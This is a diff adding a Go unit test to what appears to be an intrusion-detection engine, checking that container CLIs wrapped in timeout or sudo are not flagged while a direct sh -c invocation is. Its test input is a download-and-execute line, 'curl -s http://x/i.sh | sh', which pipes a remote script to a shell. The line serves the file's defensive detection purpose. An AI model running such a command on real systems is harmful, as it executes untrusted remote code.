@@ -79,3 +79,28 @@ func TestLogKeepersMayDeleteLogs(t *testing.T) {
 		}
 	}
 }
+
+// A container CLI's argv carries the script it runs in the container,
+// where it is detected; wrapped in timeout or sudo it is still the CLI's.
+func TestWrappedContainerCLIIsNotTheAttacker(t *testing.T) {
+	e := builtinEngine(t)
+	n := func(args ...string) int {
+		c := 0
+		e.Process(execOf(proc(args[0], args[1:]...), nil, &event.Exec{Args: append([]string{baseName(args[0])}, args[1:]...)}),
+			func(*finding.Finding) { c++ })
+		return c
+	}
+	script := "curl -s http://x/i.sh | sh"
+	if got := n("/usr/bin/timeout", "60", "podman", "run", "--rm", "img", "sh", "-c", script); got != 0 {
+		t.Errorf("timeout podman run: %d findings", got)
+	}
+	if got := n("/usr/bin/sudo", "-E", "kubectl", "exec", "pod", "--", "sh", "-c", script); got != 0 {
+		t.Errorf("sudo kubectl exec: %d findings", got)
+	}
+	if got := n("/usr/bin/timeout", "60", "sh", "-c", script); got == 0 {
+		t.Error("timeout sh -c running the script itself: no finding")
+	}
+	if got := n("/usr/bin/sudo", "sh", "-c", script+"; podman ps"); got == 0 {
+		t.Error("sudo sh -c with podman later in the script: no finding")
+	}
+}
